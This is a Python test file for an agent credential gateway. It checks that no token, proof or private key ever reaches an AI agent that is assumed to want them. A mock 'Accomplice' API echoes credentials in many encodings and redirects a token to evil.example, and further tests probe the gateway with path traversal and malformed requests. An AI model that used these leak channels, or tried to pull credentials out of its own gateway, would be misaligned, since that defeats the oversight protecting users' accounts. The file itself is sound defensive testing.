"""An agent that wants the credentials it works with.

The attacker is the agent itself, or whoever talked it into it. It holds the key that shows it to the gateway, may call
its routes as often as it likes, and one of the APIs there does whatever it can to help: it echoes what it is sent, in
every spelling it knows, at once or later, in bodies, headers, errors and redirects. At the end, everything that the
agent ever received is searched for everything that it must not have.
"""

import asyncio
import base64
import json
import logging
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, unquote_to_bytes

import httpx2
import pytest

from deputize.core.wire import Form
from deputize.resource.asgi import App, Message, Receive, Scope, Send
from tests.gateway.raw import raw
from tests.gateway.world import THIRTY, World, body_of, say, world
from tests.support.cast import BOT, OTHER

# --- what the agent must not have -------------------------------------------------------------------------------------


@dataclass
class Watched:
    """Every credential that passes between gateway and server: what was sent, and what was issued."""

    secrets: set[str] = field(default_factory=set)

    def __call__(self, app: App) -> App:
        async def watched(scope: Scope, receive: Receive, send: Send) -> None:
            body = await body_of(receive)
            form = Form.parse(body)
            for name in ("client_assertion", "subject_token", "auth_req_id", "transaction_authorization_id"):
                self.secrets |= set(form.all(name))
            self.secrets |= {value.decode() for name, value in scope["headers"] if name == b"dpop"}
            told: list[bytes] = []

            async def noted(message: Message) -> None:
                told.append(message.get("body", b""))
                await send(message)

            async def again() -> Message:
                return {"type": "http.request", "body": body, "more_body": False}

            await app(scope, again, noted)
            self._note(b"".join(told))

        return watched

    def _note(self, body: bytes) -> None:
        try:
            answer = json.loads(body)
        except ValueError:
            return
        for name in ("access_token", "id_token", "auth_req_id", "transaction_authorization_id", "authorization_uri"):
            if name in answer:
                self.secrets.add(answer[name])


def parts_of(secret: str) -> list[bytes]:
    """What of a secret is worth something: of a JWT its claims and its signature, each by itself."""
    parts = secret.split(".")
    return [part.encode() for part in (parts[1:] if len(parts) == 3 else [secret])]


def all_secrets(here: World, watched: Watched) -> list[bytes]:
    sent = [
        value.decode().removeprefix("DPoP ")
        for scope, _ in here.leaky.seen
        for name, value in scope["headers"]
        if name in {b"authorization", b"dpop"}
    ]
    keys = [
        *here.gateway._wallet.identity.client_keys.values(),
        *(here.gateway._wallet.key(name) for name in (BOT, OTHER)),
    ]
    private = [str(key.to_jwk()["d"]) for key in keys]
    return [part for secret in {*watched.secrets, *sent, *private} for part in parts_of(secret)]


# --- all that it received ---------------------------------------------------------------------------------------------


def readings(data: bytes) -> Iterator[bytes]:
    """What these bytes say, to somebody who tries."""
    yield data
    yield unquote_to_bytes(data)
    for run in re.findall(rb"(?:[0-9a-fA-F]{2}){16,}", data):
        yield bytes.fromhex(run.decode())
    for run in re.findall(rb"[A-Za-z0-9+/_-]{16,}", data):
        plain = run.translate(bytes.maketrans(b"-_", b"+/"))
        for at in range(4):
            piece = plain[at:-1] if (len(plain) - at) % 4 == 1 else plain[at:]
            yield base64.b64decode(piece + b"=" * (-len(piece) % 4))


def found_in(received: bytes, secrets: list[bytes]) -> list[bytes]:
    texts = b"\n".join(readings(received))
    return [secret for secret in secrets if secret in texts]


@pytest.mark.parametrize(
    "spelt",
    [
        lambda secret: secret,
        lambda secret: b"x" + base64.b64encode(b"Authorization: DPoP " + secret),
        lambda secret: base64.urlsafe_b64encode(b"ab" + secret),
        lambda secret: secret.hex().encode(),
        lambda secret: b"?" + b"".join(b"%%%02X" % letter for letter in secret),
    ],
)
def test_the_search_finds_what_it_looks_for(spelt: Callable[[bytes], bytes]) -> None:
    secret = b"c2VjcmV0LXBhcnQtb2YtYS10b2tlbi10aGF0LWlzLWxvbmctZW5vdWdo"
    assert found_in(b"before " + spelt(secret) + b" behind", [secret]) == [secret]
    assert found_in(b"before " + spelt(secret[::-1]) + b" behind", [secret]) == []


# --- the accomplice ---------------------------------------------------------------------------------------------------


def shown(scope: Scope) -> dict[str, str]:
    return {name.decode(): value.decode("latin-1") for name, value in scope["headers"]}


class Accomplice:
    """An API that gives away what it was sent, in the way that its path names."""

    def __init__(self) -> None:
        self.noted: list[dict[str, str]] = []

    async def __call__(self, scope: Scope, body: bytes, send: Send) -> None:
        headers = shown(scope)
        self.noted.append(headers)
        way = scope["path"].split("/")[1]
        token, proof = headers["authorization"], headers["dpop"]
        plain = json.dumps(headers).encode()
        if way == "drops":
            await self._drops(plain, send)
            return
        told, status, extra = self._says(way, token, proof, plain)
        at = f"http://{headers['host']}"
        extra = tuple((name, value.replace("{at}", at)) for name, value in extra)
        await say(send, told or body + plain, status=status, headers=extra)

    def _says(self, way: str, token: str, proof: str, plain: bytes) -> tuple[bytes, int, tuple[tuple[str, str], ...]]:
        """A body, a status and headers."""
        head, payload, signature = token.removeprefix("DPoP ").split(".")
        parts = {"header": head, "payload": payload, "signature": signature, "proof": proof.split(".")}
        shifted = b"x" * (len(self.noted) % 3) + plain
        bodies = {
            "json": plain,
            "later": json.dumps(self.noted).encode(),
            "parts": json.dumps(parts).encode(),
            "base64": base64.b64encode(shifted),
            "base64url": base64.urlsafe_b64encode(shifted),
            "hex": plain.hex().encode(),
            "percent": quote(token, safe="").replace(".", "%2E").encode(),
            "html": f"<pre>{token}\n{proof}</pre>".encode(),
            "binary": b"\x00\xff" + token.encode() + b"\x00" + proof.encode(),
            "events": f"event: x\ndata: {token}\n\ndata: {proof}\n\n".encode() * 3,
            "error": f"cannot parse {token} with {proof}".encode(),
            "denied": f"not with {token}".encode(),
        }
        names = ("etag", "content-disposition", "x-echo", "set-cookie", "link", "warning", "vary")
        extra: dict[str, tuple[tuple[str, str], ...]] = {
            "denied": (("www-authenticate", f'DPoP error="insufficient_scope", error_description="{token}"'),),
            "redirect": (("location", f"{{at}}/next?token={token.split(' ')[1]}&proof={proof}"),),
            "away": (("location", f"https://evil.example/?t={token}"),),
            "headers": tuple((name, f"{token} {proof}") for name in names),
            "packed": (("content-encoding", "br"),),
        }
        status = {"error": 500, "denied": 401, "redirect": 302, "away": 302}
        return bodies.get(way, b""), status.get(way, 200), extra.get(way, ())

    async def _drops(self, plain: bytes, send: Send) -> None:
        """A letter at a time."""
        await send({"type": "http.response.start", "status": 200, "headers": []})
        for letter in plain:
            await send({"type": "http.response.body", "body": bytes([letter]), "more_body": True})
        await send({"type": "http.response.body", "body": b""})


WAYS = (
    "json", "parts", "base64", "base64", "base64", "base64url", "base64url", "hex", "percent", "html", "drops", "error",
    "denied", "redirect", "away", "headers", "binary", "packed", "events", "else", "later",
)  # fmt: skip


# --- the attack -------------------------------------------------------------------------------------------------------


class Greedy:
    """An agent that keeps everything it receives, trailers of mistakes included."""

    def __init__(self, here: World) -> None:
        self.here = here
        self.received: list[bytes] = []

    async def tries(self, bot: httpx2.AsyncClient, method: str, path: str, **told: Any) -> httpx2.Response:
        reply = await bot.request(method, path, **told)
        head = "\n".join(f"{name}: {value}" for name, value in reply.headers.multi_items())
        self.received.append(f"{reply.status_code} {reply.reason_phrase}\n{head}\n\n".encode() + reply.content)
        return reply

    async def sends(self, data: bytes) -> None:
        answer = await raw(self.here.url, data)
        self.received.append(json.dumps(answer.headers).encode() + answer.body)


async def test_nothing_usable_ever_reaches_the_agent(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    watched = Watched()
    async with world(watch=watched) as here, here.agent() as bot, here.agent(OTHER) as other:
        here.leaky.answer = Accomplice()
        greedy = Greedy(here)
        for way in WAYS:
            for method in ("GET", "POST", "HEAD", "OPTIONS"):
                body = b"" if method in {"GET", "HEAD"} else b"give me all"
                await greedy.tries(bot, method, f"/leaky/{way}", content=body)
        for headers in (
            {"range": "bytes=0-40"},
            {"range": "bytes=41-90", "if-range": "x"},
            {"accept-encoding": "gzip, br"},
            {"connection": "authorization, dpop"},
            {"authorization": "DPoP mine"},
            {"expect": "200-ok"},
            {"prefer": "return=representation, wait=0"},
        ):
            await greedy.tries(bot, "GET", "/leaky/json", headers=headers)
        await asking(greedy, bot, other)
        await poking(greedy, bot)
        secrets = all_secrets(here, watched)
        assert len(secrets) > 200  # tokens, proofs, assertions, handles and keys were there to be found
        assert found_in(b"\n".join(greedy.received), secrets) == []
        written = repr([event.told for event in await here.trail()]).encode()
        assert found_in(written, secrets) == []
        assert found_in(caplog.text.encode(), secrets) == []
        assert found_in(repr(vars(here.gateway)).encode(), secrets) == []


async def asking(greedy: Greedy, bot: httpx2.AsyncClient, other: httpx2.AsyncClient) -> None:
    """Everything that has to do with approvals: pending, allowed, used, denied, somebody else's, carried elsewhere."""
    here = greedy.here
    held = asyncio.create_task(greedy.tries(bot, "POST", "/pharmacy/orders", content=THIRTY))
    await here.answers()
    approval = {"deputize-approval": (await held).headers["deputize-approval"]}
    later = await greedy.tries(bot, "POST", "/pharmacy/orders", content=THIRTY, headers={"prefer": "respond-async"})
    where = later.headers["location"]
    await greedy.tries(bot, "GET", where)
    await greedy.tries(other, "GET", where)
    await here.answers(allow=False)
    while (await greedy.tries(bot, "GET", where)).status_code == 202:
        await asyncio.sleep(0.05)
    for path in ("/pharmacy/orders", "/leaky/json", "/nowhere"):
        await greedy.tries(bot, "POST", path, content=THIRTY, headers=approval)
        await greedy.tries(other, "POST", path, content=THIRTY, headers=approval)
    await here.takes_back()
    await greedy.tries(bot, "GET", "/pharmacy/prescriptions")
    await greedy.tries(bot, "GET", "/leaky/later")


async def poking(greedy: Greedy, bot: httpx2.AsyncClient) -> None:
    """The gateway's own addresses, and what makes it stumble."""
    for path in (
        "/",
        "/healthz",
        "/.well-known/oauth-protected-resource",
        "/approvals/",
        "/token",
        "/debug",
        "/../etc",
    ):
        for method in ("GET", "POST", "TRACE", "DELETE"):
            await greedy.tries(bot, method, path)
    await greedy.sends(b"GET /leaky/%ff HTTP/1.1\r\nHost: {host}\r\n\r\n")
    await greedy.sends(b"GET /leaky/json HTTP/1.1\r\nHost: {host}\r\nDPoP: e30.e30.e30\r\n\r\n")
    await greedy.sends(b"TRACE / HTTP/1.1\r\nHost: {host}\r\n\r\n")
    await greedy.sends(b"nonsense\r\n\r\n")


async def test_what_waited_for_a_person_is_looked_through_too() -> None:
    """The answer is kept while nobody waits for it: it is the same answer, and goes through the same hands."""
    watched = Watched()
    async with world(watch=watched, mandates=False) as here, here.agent() as bot:
        here.leaky.answer = Accomplice()
        greedy = Greedy(here)
        first = await greedy.tries(bot, "GET", "/leaky/json", headers={"prefer": "respond-async"})
        await here.answers()
        while (reply := await greedy.tries(bot, "GET", first.headers["location"])).status_code == 202:
            await asyncio.sleep(0.05)
        assert reply.json()["authorization"].startswith("DPoP **")
        assert reply.json()["authorization"].endswith("***")
        assert found_in(b"\n".join(greedy.received), all_secrets(here, watched)) == []
